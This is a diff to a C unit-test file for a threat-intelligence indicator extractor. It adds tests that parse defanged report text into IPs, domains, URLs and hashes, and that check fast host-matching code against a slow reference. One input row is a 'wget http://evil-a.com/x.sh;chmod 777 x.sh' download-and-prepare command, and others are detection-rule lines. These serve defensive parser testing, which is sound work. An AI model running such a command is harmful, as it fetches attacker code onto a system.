@@ -2,6 +2,7 @@
 
 #include "base/buf.h"
 #include "engine/select/indicator.h"
+#include "engine/select/scan.h"
 
 #include "base/banned.h"
 
@@ -197,12 +198,85 @@ static void places_point_into_the_text_as_given(void **state)
 	assert_true(list.items[0].defanged);
 }
 
+static void other_layouts_of_reports_are_read(void **state)
+{
+	static const struct row rows[] = {
+		{ "sha256:ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb",
+			"sha256 ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb" },
+		{ "攻撃元45.77.1.2からの通信", "ipv4 45.77.1.2" },
+		{ "h[xx]p://bad-site[.]ru/x", "url http://bad-site.ru/x" },
+		{ "wget http://evil-a.com/x.sh;chmod 777 x.sh", "url http://evil-a.com/x.sh, file_name x.sh" },
+		{ "\\\\45.77.1.2\\share\\a.exe", "file_path \\\\45.77.1.2\\share\\a.exe, ipv4 45.77.1.2" },
+		{ "\\\\evil-a.com\\share\\a.exe", "file_path \\\\evil-a.com\\share\\a.exe, domain evil-a.com" },
+		{ "http://a1.com/x;jsessionid=1", "url http://a1.com/x;jsessionid=1" },
+		{ "alert tcp any any -> 45.77.1.2 4444 (msg:\"x\"; sid:1;)", "ipv4 45.77.1.2" },
+		{ "DestinationHostname|endswith: '.evil-a.com'", "domain evil-a.com" },
+		{ "[file:hashes.'SHA-256' = 'ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb']",
+			"sha256 ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb" },
+		{ "evil-a[.]com（45.77.1[.]2）→45.77.1[.]3", "domain evil-a.com, ipv4 45.77.1.2, ipv4 45.77.1.3" },
+		{ "接続先：evil-a[.]com、ポート：443", "domain evil-a.com" },
+		{ "{0CC175B9-C0F1-B6A8-31C3-99E269772661}", "" }, { "1.2.3.4.5", "" }, { "org.apache.hadoop.ipc.Server", "" },
+	};
+
+	CHECK(*state, rows, IND_KIND_TEXT);
+}
+
+static uint32_t next_random(uint32_t *s)
+{
+	*s = *s * 1664525u + 1013904223u;
+	return *s >> 8;
+}
+
+/* The short ways for addresses and plain names against the long way, at each dot of random text. */
+static void short_ways_judge_like_the_long_one(void **state)
+{
+	static const char *const parts[] = { ".", ".", ".", "com", "COM", "org", "co", "jp", "evil", "a", "Server", "DataNode", "x-1", "-", "_", "_x", "192", "8",
+		"255", "256", "01", "10.0.0.1", "1.2.3.4", " ", "/", "@", ":80", "例え", "ア", "\xd0\xb0", "py", "so", "The", "onion", "a23456789012345678901234567890b",
+		"xn--p1ai", "(", "..", ".-", "9z", "museum", "%" };
+	struct ctx *c = *state;
+	uint32_t seed = 6;
+
+	for (int round = 0; round < 60000; round++) {
+		struct folded f;
+		struct scan s = { .c = c, .f = &f };
+		struct buf b;
+		size_t floor;
+
+		arena_reset(c->a);
+		buf_init(&b, c->a, 1024);
+		for (uint32_t n = next_random(&seed) % 14 + 2; n; n--)
+			buf_putz(&b, parts[next_random(&seed) % (sizeof parts / sizeof parts[0])]);
+		assert_ok(c, fold_text(c, buf_slice(&b), IND_KIND_TEXT, &f));
+		s.t = f.text;
+		floor = next_random(&seed) % 4 ? 0 : next_random(&seed) % (s.t.len + 1);
+		for (size_t at = floor; at < s.t.len; at++) {
+			struct host h, l;
+
+			if (s.t.p[at] != '.')
+				continue;
+			host_judge(&s, at, floor, &h);
+			host_judge_long(&s, at, floor, &l);
+			if (h.kind != l.kind || h.resume != l.resume || (h.kind != HOST_NONE && (h.start != l.start || h.end != l.end)))
+				fail_msg("%.*s at %zu: kind %d and %d", S_ARG(s.t), at, (int)h.kind, (int)l.kind);
+			if (h.kind != HOST_IPV4 && h.kind != HOST_NAME)
+				continue;
+			assert_slice(((slice){ h.text, h.len }), ((slice){ l.text, l.len }));
+			host_hash(&h);
+			host_hash(&l);
+			assert_int_equal(h.n, l.n);
+			assert_memory_equal(h.hash, l.hash, h.n * sizeof h.hash[0]);
+			assert_true(h.kind != HOST_NAME || h.n == HASHED_MOST || (h.first == l.first && h.hash[0] == word_hash((slice){ h.text, h.len })));
+		}
+	}
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		WORK_TEST(every_defanging_is_taken_back), WORK_TEST(addresses_have_ports_blocks_and_roles), WORK_TEST(names_end_where_sentences_begin),
 		WORK_TEST(urls_end_at_their_own_end), WORK_TEST(hashes_and_wallets_are_told_apart), WORK_TEST(identifiers_paths_and_names),
 		WORK_TEST(what_only_looks_alike_is_left), WORK_TEST(one_level_of_encoding_is_opened), WORK_TEST(places_point_into_the_text_as_given),
+		WORK_TEST(short_ways_judge_like_the_long_one), WORK_TEST(other_layouts_of_reports_are_read),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
